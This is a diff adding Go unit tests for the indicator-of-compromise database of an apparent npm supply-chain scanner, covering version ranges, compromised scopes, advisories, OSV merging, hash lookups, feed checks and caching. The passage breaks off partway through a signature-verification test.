@@ -2,9 +2,25 @@ package ioc
 
 import (
 	"bytes"
+	"context"
+	"crypto/ecdsa"
+	"crypto/ed25519"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/pem"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"reflect"
+	"strings"
+	"sync"
 	"testing"
+	"time"
 )
 
 // TestParseCSV tests the CSV parsing function with various inputs.
@@ -319,6 +335,261 @@ another-pkg,= 2.5.3`)
 	}
 }
 
+// TestDatabaseLookup_Ranges tests range-based entries alongside exact pins.
+func TestDatabaseLookup_Ranges(t *testing.T) {
+	csvData := []byte(`Package,Version,Date Added
+lodash,< 4.17.21,2025-11-24
+foo,>=1.0.0 <1.3.0 || = 2.0.0,
+bar,= 1.0.0,`)
+
+	entries, err := ParseEntries(csvData)
+	if err != nil {
+		t.Fatalf("ParseEntries() error = %v", err)
+	}
+	if len(entries) != 4 {
+		t.Fatalf("ParseEntries() returned %d entries, want 4", len(entries))
+	}
+	if entries[0].Range != "< 4.17.21" || entries[0].Version != "" {
+		t.Errorf("entries[0] = %+v, want range < 4.17.21", entries[0])
+	}
+	if entries[2].Version != "2.0.0" || entries[2].Range != "" {
+		t.Errorf("entries[2] = %+v, want exact 2.0.0", entries[2])
+	}
+
+	db, err := NewDatabase(csvData)
+	if err != nil {
+		t.Fatalf("NewDatabase() error = %v", err)
+	}
+
+	tests := []struct {
+		pkg, ver  string
+		want      bool
+		wantRange string
+	}{
+		{"lodash", "4.17.20", true, "< 4.17.21"},
+		{"lodash", "4.17.21", false, ""},
+		{"foo", "1.2.0", true, ">=1.0.0 <1.3.0"},
+		{"foo", "1.3.0", false, ""},
+		{"foo", "2.0.0", true, ""},
+		{"bar", "1.0.0", true, ""},
+		{"lodash", "not-a-version", false, ""},
+	}
+	for _, tt := range tests {
+		if got := db.Lookup(tt.pkg, tt.ver); got != tt.want {
+			t.Errorf("Lookup(%q, %q) = %v, want %v", tt.pkg, tt.ver, got, tt.want)
+		}
+		if got, _ := db.MatchedRange(tt.pkg, tt.ver); got != tt.wantRange {
+			t.Errorf("MatchedRange(%q, %q) = %q, want %q", tt.pkg, tt.ver, got, tt.wantRange)
+		}
+	}
+
+	if db.Count() != 3 || db.Size() != 4 {
+		t.Errorf("Count(), Size() = %d, %d; want 3, 4", db.Count(), db.Size())
+	}
+	if got := db.GetVersions("lodash"); got != nil {
+		t.Errorf("GetVersions(lodash) = %v, want nil for a range-only package", got)
+	}
+	if added, ok := db.AddedAt("lodash", "4.17.20"); !ok || added.Format("2006-01-02") != "2025-11-24" {
+		t.Errorf("AddedAt(lodash, 4.17.20) = %v, %v; want the range entry date", added, ok)
+	}
+	if !db.Since(time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC)).Lookup("lodash", "4.17.20") {
+		t.Error("Since() should preserve range entries")
+	}
+}
+
+// TestDatabaseLookup_Scopes tests compromised-scope entries listing every
+// package under a scope.
+func TestDatabaseLookup_Scopes(t *testing.T) {
+	csvData := []byte(`Package,Version,Date Added,GHSA
+@ctrl/*,= *,2025-09-15,GHSA-xxxx-ctrl
+@nativescript/*,>= 2.0.0 <2.1.0,,
+@scope/pkg,= 1.0.0,,`)
+
+	entries, err := ParseEntries(csvData)
+	if err != nil {
+		t.Fatalf("ParseEntries() error = %v", err)
+	}
+	if entries[0].Package != "@ctrl/*" || entries[0].Version != AnyVersion || entries[0].Range != "" {
+		t.Errorf("entries[0] = %+v, want @ctrl/* with every version", entries[0])
+	}
+	iocMap, err := ParseCSV(csvData)
+	if err != nil {
+		t.Fatalf("ParseCSV() error = %v", err)
+	}
+	if got := iocMap["@ctrl/*"]; !reflect.DeepEqual(got, []string{"*"}) {
+		t.Errorf(`ParseCSV()["@ctrl/*"] = %v, want [*]`, got)
+	}
+
+	db, err := NewDatabase(csvData)
+	if err != nil {
+		t.Fatalf("NewDatabase() error = %v", err)
+	}
+
+	tests := []struct {
+		pkg, ver  string
+		want      bool
+		wantScope string
+	}{
+		{"@ctrl/tinycolor", "4.1.1", true, "@ctrl/*"},
+		{"@ctrl/deluge", "7.2.0-beta.1", true, "@ctrl/*"},
+		{"@ctrl/deluge", "not-a-version", true, "@ctrl/*"},
+		{"@nativescript/core", "2.0.5", true, "@nativescript/*"},
+		{"@nativescript/core", "2.1.0", false, ""},
+		{"@scope/pkg", "1.0.0", true, ""},
+		{"@scope/other", "1.0.0", false, ""},
+		{"@ctrlx/tinycolor", "4.1.1", false, ""},
+		{"ctrl", "1.0.0", false, ""},
+	}
+	for _, tt := range tests {
+		if got := db.Lookup(tt.pkg, tt.ver); got != tt.want {
+			t.Errorf("Lookup(%q, %q) = %v, want %v", tt.pkg, tt.ver, got, tt.want)
+		}
+		if got, _ := db.MatchedScope(tt.pkg, tt.ver); got != tt.wantScope {
+			t.Errorf("MatchedScope(%q, %q) = %q, want %q", tt.pkg, tt.ver, got, tt.wantScope)
+		}
+	}
+
+	if got, ok := db.CompromisedScope("@ctrl/tinycolor"); !ok || got != "@ctrl/*" {
+		t.Errorf("CompromisedScope(@ctrl/tinycolor) = %q, %v; want @ctrl/*", got, ok)
+	}
+	if _, ok := db.CompromisedScope("@nativescript/core"); ok {
+		t.Error("CompromisedScope(@nativescript/core) should be false for a scope listing some versions")
+	}
+	if db.Count() != 3 || db.Size() != 3 {
+		t.Errorf("Count(), Size() = %d, %d; want 3, 3", db.Count(), db.Size())
+	}
+	if added, ok := db.AddedAt("@ctrl/tinycolor", "4.1.1"); !ok || added.Format("2006-01-02") != "2025-09-15" {
+		t.Errorf("AddedAt(@ctrl/tinycolor, 4.1.1) = %v, %v; want the scope entry date", added, ok)
+	}
+	if advisory, ok := db.AdvisoryFor("@ctrl/tinycolor", AnyVersion); !ok || !reflect.DeepEqual(advisory.IDs, []string{"GHSA-xxxx-ctrl"}) {
+		t.Errorf("AdvisoryFor(@ctrl/tinycolor, *) = %+v, %v; want the scope entry advisory", advisory, ok)
+	}
+	if records := db.SourcesFor("@ctrl/tinycolor", "4.1.1"); len(records) != 1 || records[0].Source != SourceCSV {
+		t.Errorf("SourcesFor(@ctrl/tinycolor, 4.1.1) = %+v, want the csv source", records)
+	}
+
+	jsonEntries, err := ParseJSONEntries([]byte(`[{"package": "@ctrl/*", "version": "*"}, {"package": "@ctrl/*", "range": "*"}]`))
+	if err != nil {
+		t.Fatalf("ParseJSONEntries() error = %v", err)
+	}
+	for _, entry := range jsonEntries {
+		if entry.Version != AnyVersion || entry.Range != "" {
+			t.Errorf("JSON entry = %+v, want every version", entry)
+		}
+	}
+}
+
+// TestDatabaseLookupBatch tests that batch lookups agree with Lookup.
+func TestDatabaseLookupBatch(t *testing.T) {
+	db, err := NewDatabase([]byte("Package,Version\nlodash,< 4.17.21\nevil,= 1.0.1\n"))
+	if err != nil {
+		t.Fatalf("NewDatabase() error = %v", err)
+	}
+
+	pairs := []PackageVersion{
+		{Name: "evil", Version: "1.0.1"},
+		{Name: "evil", Version: "1.0.2"},
+		{Name: "lodash", Version: "4.17.20"},
+		{Name: "lodash", Version: "4.17.21"},
+		{Name: "unknown", Version: "1.0.0"},
+		{Name: "evil", Version: "1.0.1"},
+	}
+	want := []bool{true, false, true, false, false, true}
+
+	if got := db.LookupBatch(pairs); !reflect.DeepEqual(got, want) {
+		t.Errorf("LookupBatch() = %v, want %v", got, want)
+	}
+	for i, pair := range pairs {
+		if got := db.Lookup(pair.Name, pair.Version); got != want[i] {
+			t.Errorf("Lookup(%q, %q) = %v, want %v", pair.Name, pair.Version, got, want[i])
+		}
+	}
+
+	wantSet := map[PackageVersion]bool{
+		{Name: "evil", Version: "1.0.1"}:     true,
+		{Name: "lodash", Version: "4.17.20"}: true,
+	}
+	if got := db.LookupSet(pairs); !reflect.DeepEqual(got, wantSet) {
+		t.Errorf("LookupSet() = %v, want %v", got, wantSet)
+	}
+	if got := db.LookupBatch(nil); len(got) != 0 {
+		t.Errorf("LookupBatch(nil) = %v, want empty", got)
+	}
+}
+
+// TestDatabaseReplace tests swapping in reloaded entries while lookups run,
+// and that snapshots keep the entries they were taken from.
+func TestDatabaseReplace(t *testing.T) {
+	db, err := NewDatabase([]byte("Package,Version\nevil,= 1.0.1\n"))
+	if err != nil {
+		t.Fatalf("NewDatabase() error = %v", err)
+	}
+	reloaded, err := NewDatabase([]byte("Package,Version\nworse,= 2.0.0\nevil,= 1.0.1\n"))
+	if err != nil {
+		t.Fatalf("NewDatabase() error = %v", err)
+	}
+	pinned := db.Snapshot()
+
+	var wg sync.WaitGroup
+	for i := 0; i < 4; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for j := 0; j < 1000; j++ {
+				if !db.Lookup("evil", "1.0.1") {
+					t.Error("Lookup(evil, 1.0.1) = false during Replace")
+					return
+				}
+			}
+		}()
+	}
+	db.Replace(reloaded)
+	wg.Wait()
+
+	if !db.Lookup("worse", "2.0.0") {
+		t.Error("Lookup(worse, 2.0.0) = false after Replace")
+	}
+	if db.Size() != 2 || db.Digest() != reloaded.Digest() {
+		t.Errorf("Replace() did not swap in the reloaded entries: size %d", db.Size())
+	}
+	if pinned.Lookup("worse", "2.0.0") || pinned.Size() != 1 {
+		t.Error("Snapshot() sees entries replaced after it was taken")
+	}
+}
+
+// TestDatabaseAdvisory tests parsing advisory columns and looking them up.
+func TestDatabaseAdvisory(t *testing.T) {
+	csvData := []byte(`Package,Version,CVE,GHSA,Advisory URL,Campaign
+evil,= 1.0.0 || = 1.0.1,CVE-2025-0001,"GHSA-aaaa-bbbb-cccc, GHSA-dddd-eeee-ffff",https://example.com/advisory,shai-hulud-2
+lodash,< 4.17.21,,GHSA-1111-2222-3333,,
+plain,= 2.0.0,,,,`)
+
+	db, err := NewDatabase(csvData)
+	if err != nil {
+		t.Fatalf("NewDatabase() error = %v", err)
+	}
+
+	want := Advisory{
+		IDs:      []string{"CVE-2025-0001", "GHSA-aaaa-bbbb-cccc", "GHSA-dddd-eeee-ffff"},
+		URL:      "https://example.com/advisory",
+		Campaign: "shai-hulud-2",
+	}
+	for _, ver := range []string{"1.0.0", "1.0.1"} {
+		if got, ok := db.AdvisoryFor("evil", ver); !ok || !reflect.DeepEqual(got, want) {
+			t.Errorf("AdvisoryFor(evil, %s) = %+v, %v; want %+v", ver, got, ok, want)
+		}
+	}
+	if got, ok := db.AdvisoryFor("lodash", "4.17.20"); !ok || !reflect.DeepEqual(got.IDs, []string{"GHSA-1111-2222-3333"}) {
+		t.Errorf("AdvisoryFor(lodash, 4.17.20) = %+v, %v; want the range entry advisory", got, ok)
+	}
+	if _, ok := db.AdvisoryFor("plain", "2.0.0"); ok {
+		t.Error("AdvisoryFor(plain) should report no advisory")
+	}
+	if _, ok := db.Since(time.Time{}).AdvisoryFor("evil", "1.0.0"); !ok {
+		t.Error("Since() should preserve advisories")
+	}
+}
+
 // TestDatabaseCount tests the Count method.
 func TestDatabaseCount(t *testing.T) {
 	tests := []struct {
@@ -481,6 +752,169 @@ multi-version,= 1.0.2`)
 	}
 }
 
+// TestDatabaseSince tests date-added parsing and incident window filtering.
+func TestDatabaseSince(t *testing.T) {
+	csvData := []byte(`Package,Version,Date Added
+old-pkg,= 1.0.0,2025-09-15
+new-pkg,= 2.0.0 || = 2.0.1,2025-11-24
+undated-pkg,= 3.0.0,
+bad-date-pkg,= 4.0.0,not-a-date`)
+
+	db, err := NewDatabase(csvData)
+	if err != nil {
+		t.Fatalf("NewDatabase() failed: %v", err)
+	}
+
+	added, ok := db.AddedAt("new-pkg", "2.0.1")
+	if !ok || added.Format("2006-01-02") != "2025-11-24" {
+		t.Errorf("AddedAt(new-pkg, 2.0.1) = %v, %v; want 2025-11-24, true", added, ok)
+	}
+	if _, ok := db.AddedAt("undated-pkg", "3.0.0"); ok {
+		t.Error("AddedAt(undated-pkg) should report no date")
+	}
+	if _, ok := db.AddedAt("bad-date-pkg", "4.0.0"); ok {
+		t.Error("AddedAt(bad-date-pkg) should treat an unparseable date as missing")
+	}
+
+	since := time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC)
+	window := db.Since(since)
+
+	if window.Lookup("old-pkg", "1.0.0") {
+		t.Error("Since() should drop entries added before the window")
+	}
+	for _, tc := range []struct{ pkg, ver string }{
+		{"new-pkg", "2.0.0"},
+		{"new-pkg", "2.0.1"},
+		{"undated-pkg", "3.0.0"},
+		{"bad-date-pkg", "4.0.0"},
+	} {
+		if !window.Lookup(tc.pkg, tc.ver) {
+			t.Errorf("Since() dropped %s@%s", tc.pkg, tc.ver)
+		}
+	}
+	if _, ok := window.AddedAt("new-pkg", "2.0.0"); !ok {
+		t.Error("Since() should preserve entry dates")
+	}
+
+	if got := db.Since(time.Time{}).Size(); got != db.Size() {
+		t.Errorf("Since(zero).Size() = %d, want %d", got, db.Size())
+	}
+}
+
+// TestDatabaseMerge tests correlating entries of several sources into one database.
+func TestDatabaseMerge(t *testing.T) {
+	csvDB, err := NewDatabase([]byte("Package,Version,GHSA\nevil,= 1.0.1 || >= 2.0.0 < 2.1.0,GHSA-aaaa-bbbb-cccc\nplain,= 3.0.0,\n"))
+	if err != nil {
+		t.Fatalf("NewDatabase() failed: %v", err)
+	}
+	osvDB := NewDatabaseFromEntries([]Entry{
+		{Package: "evil", Version: "1.0.1", Advisory: Advisory{IDs: []string{"MAL-2025-1"}}, Source: SourceOSV},
+		{Package: "other", Version: "4.0.0", Source: SourceOSV},
+	})
+
+	db := Merge(csvDB, osvDB)
+	if got, want := db.Size(), 4; got != want {
+		t.Errorf("Size() = %d, want %d (shared versions counted once)", got, want)
+	}
+	for _, tc := range []struct {
+		pkg, ver string
+		sources  []string
+	}{
+		{"evil", "1.0.1", []string{SourceCSV, SourceOSV}},
+		{"evil", "2.0.5", []string{SourceCSV}},
+		{"plain", "3.0.0", []string{SourceCSV}},
+		{"other", "4.0.0", []string{SourceOSV}},
+		{"absent", "1.0.0", nil},
+	} {
+		records := db.SourcesFor(tc.pkg, tc.ver)
+		var got []string
+		for _, record := range records {
+			got = append(got, record.Source)
+		}
+		if strings.Join(got, ",") != strings.Join(tc.sources, ",") {
+			t.Errorf("SourcesFor(%s, %s) = %v, want %v", tc.pkg, tc.ver, got, tc.sources)
+		}
+	}
+
+	records := db.SourcesFor("evil", "1.0.1")
+	if len(records) == 2 && (records[0].Advisory.IDs[0] != "GHSA-aaaa-bbbb-cccc" || records[1].Advisory.IDs[0] != "MAL-2025-1") {
+		t.Errorf("SourcesFor() lost per-source advisories: %+v", records)
+	}
+	if len(records) == 2 && (records[0].Row != 2 || records[1].Row != 0) {
+		t.Errorf("SourcesFor() rows = %d, %d; want the CSV line 2 and no OSV row", records[0].Row, records[1].Row)
+	}
+	if records := db.SourcesFor("plain", "3.0.0"); len(records) != 1 || records[0].Row != 3 {
+		t.Errorf("SourcesFor(plain) = %+v, want CSV line 3", records)
+	}
+	if !db.Since(time.Now()).Lookup("other", "4.0.0") {
+		t.Error("Since() dropped an undated merged entry")
+	}
+}
+
+// TestParseSources tests parsing comma-separated source lists.
+func TestParseSources(t *testing.T) {
+	tests := []struct {
+		list    string
+		want    string
+		wantErr bool
+	}{
+		{"", "csv", false},
+		{"osv", "osv", false},
+		{"csv, osv,csv", "csv,osv", false},
+		{"csv,ghsa", "csv,ghsa", false},
+		{"csv,snyk", "", true},
+		{"file", "", true},
+	}
+
+	for _, tt := range tests {
+		got, err := ParseSources(tt.list)
+		if (err != nil) != tt.wantErr {
+			t.Errorf("ParseSources(%q) error = %v, wantErr %v", tt.list, err, tt.wantErr)
+			continue
+		}
+		if !tt.wantErr && strings.Join(got, ",") != tt.want {
+			t.Errorf("ParseSources(%q) = %v, want %s", tt.list, got, tt.want)
+		}
+	}
+}
+
+// TestDatabaseLookupHash tests matching tarball hashes in hex and SRI forms.
+func TestDatabaseLookupHash(t *testing.T) {
+	// sha512 of the lodash 4.17.21 tarball, in hex and SRI form
+	const lodashHex = "bf690311ee7b95e713ba568322e3533f2dd1cb880b189e99d4edef13592b81764daec43e2c54c61d5c558dc5cfb35ecb85b65519e74026ff17675b6f8f916f4a"
+	const lodashSRI = "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="
+
+	csvData := []byte(`Package,Version,SHA512
+lodash,= 4.17.21,` + lodashHex + `
+other-pkg,= 1.0.0,not-a-hash
+`)
+
+	db, err := NewDatabase(csvData)
+	if err != nil {
+		t.Fatalf("NewDatabase() failed: %v", err)
+	}
+	if db.HashCount() != 1 {
+		t.Errorf("HashCount() = %d, want 1", db.HashCount())
+	}
+
+	entry, ok := db.LookupHash(lodashSRI)
+	if !ok || entry.Package != "lodash" || entry.Version != "4.17.21" {
+		t.Errorf("LookupHash(SRI) = %+v, %v; want lodash@4.17.21", entry, ok)
+	}
+	if _, ok := db.LookupHash("sha1-abc= " + lodashSRI); !ok {
+		t.Error("LookupHash() should match any hash in a multi-hash integrity string")
+	}
+	if _, ok := db.LookupHash(strings.ToUpper(lodashHex)); !ok {
+		t.Error("LookupHash() should match hex digests case-insensitively")
+	}
+	if _, ok := db.LookupHash("sha512-AAAA"); ok {
+		t.Error("LookupHash() matched an unknown hash")
+	}
+	if _, ok := db.Since(time.Now()).LookupHash(lodashSRI); !ok {
+		t.Error("Since() should preserve hashes of undated entries")
+	}
+}
+
 // TestFetchIoCDatabase tests the HTTP fetching functionality.
 func TestFetchIoCDatabase(t *testing.T) {
 	tests := []struct {
@@ -547,6 +981,30 @@ func TestFetchIoCDatabase(t *testing.T) {
 	}
 }
 
+// TestFetchFeed tests sending extra headers to a private feed
+func TestFetchFeed(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != "Bearer secret" {
+			http.Error(w, "unauthorized", http.StatusUnauthorized)
+			return
+		}
+		w.Write([]byte("Package,Version\nevil,= 1.0.1\n"))
+	}))
+	defer server.Close()
+
+	if _, err := FetchIoCDatabase(server.URL); err == nil || !strings.Contains(err.Error(), "401") {
+		t.Errorf("FetchIoCDatabase() without credentials error = %v, want HTTP 401", err)
+	}
+	header := http.Header{"Authorization": {"Bearer secret"}}
+	feed, err := FetchFeed(server.URL, header)
+	if err != nil || !strings.Contains(string(feed.Data), "evil") {
+		t.Fatalf("FetchFeed() = %+v, %v", feed, err)
+	}
+	if feed.ContentType == "" || feed.URL != server.URL {
+		t.Errorf("FetchFeed() = %+v, want the URL and content type recorded", feed)
+	}
+}
+
 // TestFetchIoCDatabaseDefaultURL tests that empty URL uses DefaultIoCURL.
 func TestFetchIoCDatabaseDefaultURL(t *testing.T) {
 	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -567,6 +1025,129 @@ func TestFetchIoCDatabaseDefaultURL(t *testing.T) {
 	})
 }
 
+// TestOSVSourceFetch tests OSV batch queries against a local server.
+func TestOSVSourceFetch(t *testing.T) {
+	tests := []struct {
+		name       string
+		statusCode int
+		response   string
+		want       []Entry
+		wantErr    bool
+	}{
+		{
+			name:       "affected packages only",
+			statusCode: http.StatusOK,
+			response:   `{"results":[{"vulns":[{"id":"MAL-2025-1"}]},{}]}`,
+			want: []Entry{{Package: "chalk", Version: "5.6.1", Advisory: Advisory{
+				IDs: []string{"MAL-2025-1"},
+				URL: "https://osv.dev/vulnerability/MAL-2025-1",
+			}}},
+		},
+		{
+			name:       "result count mismatch",
+			statusCode: http.StatusOK,
+			response:   `{"results":[{}]}`,
+			wantErr:    true,
+		},
+		{
+			name:       "server error",
+			statusCode: http.StatusInternalServerError,
+			wantErr:    true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var queries []osvQuery
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				var body struct {
+					Queries []osvQuery `json:"queries"`
+				}
+				if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
+					t.Errorf("invalid request body: %v", err)
+				}
+				queries = body.Queries
+				w.WriteHeader(tt.statusCode)
+				w.Write([]byte(tt.response))
+			}))
+			defer server.Close()
+
+			src := &OSVSource{
+				Packages: []PackageVersion{
+					{Name: "chalk", Version: "5.6.1"},
+					{Name: "lodash", Version: "4.17.21"},
+				},
+				URL: server.URL,
+			}
+			got, err := src.Fetch(context.Background())
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("Fetch() error = %v, wantErr %v", err, tt.wantErr)
+			}
+
+			if len(queries) != 2 || queries[0].Package.Ecosystem != "npm" || queries[1].Package.Name != "lodash" {
+				t.Errorf("unexpected queries: %+v", queries)
+			}
+			if tt.wantErr {
+				return
+			}
+
+			if len(got) != len(tt.want) {
+				t.Fatalf("Fetch() = %v, want %v", got, tt.want)
+			}
+			for i := range got {
+				if got[i].Package != tt.want[i].Package || got[i].Version != tt.want[i].Version || !reflect.DeepEqual(got[i].Advisory, tt.want[i].Advisory) {
+					t.Errorf("Fetch()[%d] = %v, want %v", i, got[i], tt.want[i])
+				}
+			}
+		})
+	}
+}
+
+// TestLoadSnapshot tests parsing of embedded snapshot data.
+func TestLoadSnapshot(t *testing.T) {
+	data := []byte("Package,Version\n02-echo,= 0.0.7\n")
+
+	db, taken, err := loadSnapshot(data, "2025-11-26\n")
+	if err != nil {
+		t.Fatalf("loadSnapshot failed: %v", err)
+	}
+	if !db.Lookup("02-echo", "0.0.7") {
+		t.Error("expected snapshot entry to be loaded")
+	}
+	if !taken.Equal(time.Date(2025, 11, 26, 0, 0, 0, 0, time.UTC)) {
+		t.Errorf("unexpected snapshot date %v", taken)
+	}
+
+	if _, _, err := loadSnapshot(data, ""); err != ErrNoSnapshot {
+		t.Errorf("expected ErrNoSnapshot without a date, got %v", err)
+	}
+	if _, _, err := loadSnapshot([]byte("Package,Version\n"), "2025-11-26"); err != ErrNoSnapshot {
+		t.Errorf("expected ErrNoSnapshot for an empty snapshot, got %v", err)
+	}
+	if _, _, err := loadSnapshot(data, "26/11/2025"); err == nil {
+		t.Error("expected error for invalid date")
+	}
+}
+
+// TestEmbeddedSnapshot tests the snapshot compiled into the binary. Builds
+// without one skip it, unless NPM_SCAN_REQUIRE_SNAPSHOT is set, as it is
+// in the release workflow after go generate ./pkg/ioc.
+func TestEmbeddedSnapshot(t *testing.T) {
+	db, taken, err := LoadSnapshot()
+	if err == ErrNoSnapshot && os.Getenv("NPM_SCAN_REQUIRE_SNAPSHOT") == "" {
+		t.Skip("no embedded IoC snapshot; run go generate ./pkg/ioc")
+	}
+	if err != nil {
+		t.Fatalf("LoadSnapshot() error = %v", err)
+	}
+	if db.Size() == 0 {
+		t.Error("embedded snapshot has no entries")
+	}
+	if date, ok := SnapshotDate(); !ok || !date.Equal(taken) || taken.After(time.Now()) {
+		t.Errorf("SnapshotDate() = %v, %v; want the snapshot date %v", date, ok, taken)
+	}
+}
+
 // TestIntegration tests the complete flow: fetch, parse, and lookup.
 func TestIntegration(t *testing.T) {
 	t.Run("full workflow", func(t *testing.T) {
@@ -614,3 +1195,639 @@ vulnerable-pkg,= 2.0.0`)
 		}
 	})
 }
+
+// TestFeedCheck tests the sanity checks run on fetched feeds
+func TestFeedCheck(t *testing.T) {
+	valid := "Package,Version\nevil,= 1.0.1\nother,= 2.0.0 || = 2.0.1\n"
+
+	tests := []struct {
+		name  string
+		check FeedCheck
+		data  string
+		url   string
+		want  string
+	}{
+		{"valid custom feed", FeedCheck{}, valid, "https://mirror.example.com/iocs.csv", ""},
+		{"byte order mark", FeedCheck{}, "\xef\xbb\xbf" + valid, "https://mirror.example.com/iocs.csv", ""},
+		{"empty", FeedCheck{}, "\n", "https://mirror.example.com/iocs.csv", "empty"},
+		{"html page", FeedCheck{}, "<!DOCTYPE html>\n<html><body>404 Not Found</body></html>\n", "", "HTML"},
+		{"unexpected header", FeedCheck{}, "name,spec\nevil,= 1.0.1\n", "https://mirror.example.com/iocs.csv", "unexpected header"},
+		{"truncated", FeedCheck{}, "Package,Version\nevil,= 1.0.1\nother,= 2", "https://mirror.example.com/iocs.csv", "truncated"},
+		{"header only", FeedCheck{}, "Package,Version\n", "https://mirror.example.com/iocs.csv", "0 rows"},
+		{"default feed too small", FeedCheck{}, valid, "", "expected at least 500"},
+		{"explicit minimum", FeedCheck{MinRows: 3}, valid, "https://mirror.example.com/iocs.csv", "2 rows, expected at least 3"},
+		{"off", FeedCheck{Mode: FeedCheckOff}, "<html></html>", "", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := tt.check.Check([]byte(tt.data), tt.url)
+			if tt.want == "" {
+				if err != nil {
+					t.Errorf("Check() error = %v, want nil", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Check() error = %v, want it to mention %q", err, tt.want)
+			}
+		})
+	}
+
+	if _, err := ParseFeedCheckMode("loose"); err == nil {
+		t.Error("ParseFeedCheckMode() should reject unknown modes")
+	}
+	if mode, err := ParseFeedCheckMode(""); err != nil || mode != FeedCheckStrict {
+		t.Errorf("ParseFeedCheckMode(\"\") = %q, %v; want %q", mode, err, FeedCheckStrict)
+	}
+}
+
+// TestDigest tests that the digest follows the entries' contents only
+func TestDigest(t *testing.T) {
+	digest := func(csv string) string {
+		t.Helper()
+		db, err := NewDatabase([]byte(csv))
+		if err != nil {
+			t.Fatalf("NewDatabase failed: %v", err)
+		}
+		return db.Digest()
+	}
+
+	base := digest("Package,Version\nevil,= 1.0.1\nlodash,< 4.17.21\n")
+	if !strings.HasPrefix(base, "sha256:") || len(base) != len("sha256:")+64 {
+		t.Errorf("Digest() = %q, want sha256:<hex>", base)
+	}
+	if reordered := digest("Package,Version\nlodash,< 4.17.21\nevil,= 1.0.1\n"); reordered != base {
+		t.Errorf("Digest() changed with entry order: %s != %s", reordered, base)
+	}
+	if changed := digest("Package,Version\nevil,= 1.0.2\nlodash,< 4.17.21\n"); changed == base {
+		t.Error("Digest() did not change with the entries")
+	}
+	if dated := digest("Package,Version,Date Added\nevil,= 1.0.1,2025-11-24\nlodash,< 4.17.21,\n"); dated == base {
+		t.Error("Digest() did not change with entry dates")
+	}
+}
+
+// TestDBCache tests storing, describing, loading and verifying cached databases
+func TestDBCache(t *testing.T) {
+	dir := t.TempDir()
+	cache := OpenDBCache(dir)
+	const url = "https://mirror.example.com/iocs.csv"
+	data := []byte("Package,Version\nevil,= 1.0.1\nother,= 2.0.0 || = 2.0.1\n")
+
+	if _, err := cache.Info(url); err != ErrNotCached {
+		t.Errorf("Info() of an empty cache error = %v, want ErrNotCached", err)
+	}
+	fetched := time.Date(2025, 11, 24, 12, 0, 0, 0, time.UTC)
+	stored, err := cache.Store(url, data, FormatCSV, fetched)
+	if err != nil {
+		t.Fatalf("Store failed: %v", err)
+	}
+	if stored.URL != url || stored.Entries != 3 || stored.Size != len(data) || len(stored.SHA256) != 64 || !stored.FetchedAt.Equal(fetched) {
+		t.Errorf("Store() = %+v", stored)
+	}
+
+	info, err := cache.Info(url)
+	if err != nil || !reflect.DeepEqual(info, stored) {
+		t.Errorf("Info() = %+v, %v; want %+v", info, err, stored)
+	}
+	loaded, _, err := cache.Load(url)
+	if err != nil || !bytes.Equal(loaded, data) {
+		t.Errorf("Load() = %q, %v", loaded, err)
+	}
+	if _, err := cache.Verify(url); err != nil {
+		t.Errorf("Verify() error = %v", err)
+	}
+	if _, err := cache.Info(""); err != ErrNotCached {
+		t.Errorf("Info() of the default feed error = %v, want ErrNotCached", err)
+	}
+
+	if err := os.WriteFile(cache.base(url)+".data", []byte("Package,Version\nevil,= 1.0.2\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := cache.Verify(url); err == nil || !strings.Contains(err.Error(), "corrupt") {
+		t.Errorf("Verify() of modified data error = %v, want corrupt", err)
+	}
+
+	var none *DBCache
+	if _, _, err := none.Load(url); err != ErrNotCached {
+		t.Errorf("Load() of a nil cache error = %v, want ErrNotCached", err)
+	}
+	if _, err := none.Store(url, data, FormatCSV, fetched); err == nil {
+		t.Error("Store() into a nil cache should fail")
+	}
+}
+
+// TestExportJSON tests the JSON export of entries
+func TestExportJSON(t *testing.T) {
+	entries, err := ParseEntries([]byte("Package,Version,Date Added\nevil,= 1.0.1,2025-11-24\nlodash,< 4.17.21,\n"))
+	if err != nil {
+		t.Fatalf("ParseEntries failed: %v", err)
+	}
+	data, err := ExportJSON(entries)
+	if err != nil {
+		t.Fatalf("ExportJSON failed: %v", err)
+	}
+
+	var exported []map[string]any
+	if err := json.Unmarshal(data, &exported); err != nil {
+		t.Fatalf("ExportJSON() produced invalid JSON: %v", err)
+	}
+	if len(exported) != 2 {
+		t.Fatalf("ExportJSON() exported %d entries, want 2", len(exported))
+	}
+	if exported[0]["package"] != "evil" || exported[0]["version"] != "1.0.1" || exported[0]["added"] == nil {
+		t.Errorf("Unexpected first entry %v", exported[0])
+	}
+	if exported[1]["range"] != "< 4.17.21" || exported[1]["added"] != nil {
+		t.Errorf("Unexpected second entry %v", exported[1])
+	}
+}
+
+// TestFeedCheckVerify tests checksum pinning and detached signature
+// verification of fetched feeds
+func TestFeedCheckVerify(t *testing.T) {
+	data := []byte("Package,Version\nevil,= 1.0.1\n")
+	digest := sha256.Sum256(data)
+
+	ecKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ecSig, err := ecdsa.SignASN1(rand.Reader, ecKey, digest[:])
+	if err != nil {
+		t.Fatal(err)
+	}
+	edPublic, edKey, err := ed25519.GenerateKey(rand.Reader)
